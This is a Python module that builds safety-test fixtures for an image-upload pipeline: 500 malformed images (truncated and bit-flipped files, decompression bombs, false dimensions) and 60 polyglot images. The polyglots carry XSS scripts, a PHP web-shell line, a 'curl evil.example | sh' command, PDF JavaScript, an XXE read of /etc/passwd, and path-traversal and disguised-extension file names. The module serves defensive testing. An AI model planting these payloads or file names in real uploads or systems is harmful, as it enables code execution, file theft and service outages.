"""Pictures that nobody took: 500 malformed ones and 60 that are something else as well (safety tests I1, I2).

Made from a seed and three good pictures; each has a name, so that a failure says which one it was.
"""

from __future__ import annotations

import io
import random
import struct
import zlib
from typing import TYPE_CHECKING

import numpy as np
from PIL import Image

if TYPE_CHECKING:
    from collections.abc import Iterator

CANARY = b"k4n4ry-of-this-run"
CARRIERS = ("jpeg-tail", "jpeg-comment", "jpeg-exif", "png-tail", "png-text", "webp-xmp")
PAYLOADS = {
    "page": b"<html><body onload=alert(1)><script>alert('%b')</script></body></html>",
    "php": b"<?php system($_GET['%b']); ?>",
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><text>%b</text></svg>",
    "zip": b"PK\x03\x04\x14\0\0\0\0\0%b",
    "pdf": b"%%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(%b)>>>>endobj\n%%%%EOF",
    "shell": b"#!/bin/sh\ncurl evil.example/%b | sh\n",
    "script": b"/*\xff*/ alert('%b') //",
    "program": b"MZ\x90\0%b",
    "phar": b"<?php __HALT_COMPILER(); ?>%b",
    "entity": b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;%b</x>",
}
NAMES = (
    "x.html", "../../etc/cron.d/x", "a.jpg\0.php", "..\\..\\x.exe", "x.svg", "con", "\u200b\u202egpj.exe", "a" * 400,
)  # fmt: skip


def _street(width: int = 320, height: int = 240) -> Image.Image:
    pixels = np.full((height, width, 3), 60, np.uint8)
    pixels[:, :, 0] = (np.arange(width) * 255 // width)[None, :]
    pixels[:, :, 1] = (np.arange(height) * 255 // height)[:, None]
    return Image.fromarray(pixels, "RGB")


def _file(kind: str, image: Image.Image | None = None, **options: object) -> bytes:
    out = io.BytesIO()
    (image or _street()).save(out, kind, **options)
    return out.getvalue()


def chunk(kind: bytes, body: bytes) -> bytes:
    """Return one chunk of a PNG."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, data: bytes, *more: bytes, depth: int = 8, colour: int = 0) -> bytes:
    """Return a PNG that says what it likes of its size."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def zeros(size: int) -> bytes:
    """Return compressed zeros, ``size`` of them, without ever holding them."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(min(1 << 20, size - at))) for at in range(0, size, 1 << 20))
    return packed + packer.flush()


def malformed(seed: int = 8) -> dict[str, bytes]:
    """Return 500 pictures that are cut off, flipped, swollen, lying or no pictures, by name."""
    dice = random.Random(seed)  # noqa: S311  a test's choice
    good = {"jpeg": _file("JPEG"), "png": _file("PNG"), "webp": _file("WEBP")}
    made = {**_bombs(), **_odd()}
    for kind, whole in good.items():
        for at in range(70):
            made[f"{kind} cut at {at}/70"] = whole[: len(whole) * at // 70]
    while len(made) < 440:
        kind = ("jpeg", "png", "webp")[len(made) % 3]
        flipped = bytearray(good[kind])
        for _ in range(dice.randint(1, 12)):
            flipped[dice.randrange(len(flipped))] = dice.randrange(256)
        made[f"{kind} flipped {len(made)}"] = bytes(flipped)
    heads = (
        b"\xff\xd8\xff\xe0",
        b"\x89PNG\r\n\x1a\n",
        b"RIFF\xff\0\0\0WEBPVP8 ",
        b"\0\0\0\x18ftypheic",
        b"GIF89a",
        b"BM",
    )
    while len(made) < 500:
        made[f"noise {len(made)}"] = heads[len(made) % len(heads)] + dice.randbytes(dice.randint(0, 4000))
    return made


def _bombs() -> dict[str, bytes]:
    sizes = ((9_000, 9_000), (12_000, 12_000), (20_000, 20_000), (65_535, 65_535), (6_324, 6_324), (29_900, 1_334))
    made = {f"bomb {w}x{h}": png(w, h, zeros(h * ((w + 7) // 8 + 1)), depth=1) for w, h in sizes[:3]}
    made |= {f"lies {w}x{h}": png(w, h, zeros(1000)) for w, h in sizes}
    made |= {f"deep {w}x{h}": png(w, h, zeros(1 << 20), depth=16, colour=6) for w, h in sizes}
    made["bomb of text"] = png(8, 8, zeros(72), chunk(b"zTXt", b"x\0\0" + zeros(200 << 20)))
    made["bomb of profile"] = png(8, 8, zeros(72), chunk(b"iCCP", b"x\0\0" + zeros(200 << 20)))
    made["bomb of international text"] = png(8, 8, zeros(72), chunk(b"iTXt", b"x\0\1\0\0\0" + zeros(200 << 20)))
    made["pixels beyond the end"] = png(64, 64, zeros(100 << 20))
    huge = bytearray(_file("JPEG"))
    at = huge.index(b"\xff\xc0") + 5
    for w, h in sizes:
        huge[at : at + 4] = struct.pack(">HH", min(h, 65_535), min(w, 65_535))
        made[f"jpeg says {w}x{h}"] = bytes(huge)
    return made


def _odd() -> dict[str, bytes]:
    frames = [Image.new("RGB", (16, 16), (n % 256, 0, 0)) for n in range(400)]
    loop = b"Exif\0\0MM\0*\0\0\0\x08\0\1\x87\x69\0\4\0\0\0\1\0\0\0\x08\0\0\0\x08"
    jpeg = _file("JPEG")
    parts = [_segment(0xE2, b"ICC_PROFILE\0" + bytes([n, 255]) + bytes(65_000)) for n in range(1, 255)]
    return {
        "empty": b"", "one byte": b"\xff", "only a head": b"\xff\xd8", "head and end": b"\xff\xd8\xff\xd9",
        "400 frames gif": _file("GIF", frames[0], save_all=True, append_images=frames[1:]),
        "400 frames png": _file("PNG", frames[0], save_all=True, append_images=frames[1:]),
        "400 frames webp": _file("WEBP", frames[0], save_all=True, append_images=frames[1:]),
        "a loop of directories": jpeg[:2] + _segment(0xE1, loop) + jpeg[2:],
        "a profile of many parts": jpeg[:2] + b"".join(parts) + jpeg[2:],
        "comments without end": jpeg[:2] + _segment(0xFE, bytes(65_000)) * 300,
        "no width": png(0, 8, zeros(8)), "no height": png(8, 0, zeros(8)), "no data": png(8, 8, b""),
        "tiff": _file("TIFF"), "bmp": _file("BMP"), "gif": _file("GIF"), "ico": _file("ICO"), "tga": _file("TGA"),
        "eps": _file("EPS"), "pdf": _file("PDF"), "ppm": _file("PPM"), "avif": _file("AVIF"),
        "svg": b"<svg xmlns='http://www.w3.org/2000/svg'/>", "text": "挖机在管线旁".encode(), "html": b"<html></html>",
    }  # fmt: skip


def _segment(marker: int, body: bytes) -> bytes:
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(body) + 2) + body


def polyglots() -> Iterator[tuple[str, bytes]]:
    """Yield name and bytes of 60 good pictures that carry something else, each with the canary in it."""
    for payload, words in PAYLOADS.items():
        for carrier in CARRIERS:
            yield f"{payload} in {carrier}", _carried(carrier, words % CANARY)


def _carried(carrier: str, payload: bytes) -> bytes:
    if carrier == "png-tail":
        return _file("PNG") + payload
    if carrier == "png-text":
        whole = _file("PNG")
        at = whole.index(b"IDAT") - 4
        return whole[:at] + chunk(b"tEXt", b"Comment\0" + payload) + whole[at:]
    if carrier == "webp-xmp":
        return _file("WEBP", xmp=payload)
    jpeg = _file("JPEG")
    if carrier == "jpeg-tail":
        return jpeg + payload
    if carrier == "jpeg-comment":
        return jpeg[:2] + _segment(0xFE, payload) + jpeg[2:]
    exif = Image.Exif()
    exif[0x9286] = payload  # what the user said
    exif[0x010E] = payload.decode("latin-1")
    return _file("JPEG", exif=exif.tobytes())
